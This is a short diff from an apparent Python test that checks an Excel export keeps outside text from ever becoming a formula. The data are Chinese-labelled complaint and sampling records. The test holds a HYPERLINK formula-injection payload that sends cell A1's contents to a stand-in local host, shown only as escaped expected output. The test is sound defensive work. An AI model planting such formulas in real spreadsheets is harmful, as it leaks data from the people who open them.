@@ -530,7 +530,7 @@ def test_xlsx_text_from_outside_is_never_a_formula(county, rules, tmp_path):
     wb = load_workbook(path)
     cells = [c for ws in wb for row in ws.iter_rows() for c in row if c.value is not None]
     assert not [c.coordinate for c in cells if c.data_type == "f" or str(c.value).startswith(("=", "+", "-", "@", "＝"))]
-    complaints = {row[5].value for row in wb["投诉举报"].iter_rows(min_row=3)}  # (内容, after 涉及产品)
+    complaints = {row[6].value for row in wb["投诉举报"].iter_rows(min_row=3)}  # (内容, after 涉及产品)
     assert {"'" + t for t in COMPLAINTS[:4]} <= complaints  # the text kept whole, behind the quote a spreadsheet shows as text
     product = "'" + '=HYPERLINK("http://127.0.0.1:9/?p="&A1,"饮用水")'
     samples = [[c.value for c in row] for row in wb["抽检记录"].iter_rows(min_row=3)]
